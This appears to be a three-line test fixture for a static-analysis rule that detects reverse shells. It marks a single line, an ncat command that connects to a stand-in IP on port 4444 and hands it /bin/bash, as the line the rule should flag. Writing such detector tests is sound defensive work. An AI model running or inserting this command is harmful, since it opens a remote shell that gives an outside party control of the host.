#!/bin/sh
# ruleid: reverse-shell
ncat 203.0.113.7 4444 -e /bin/bash
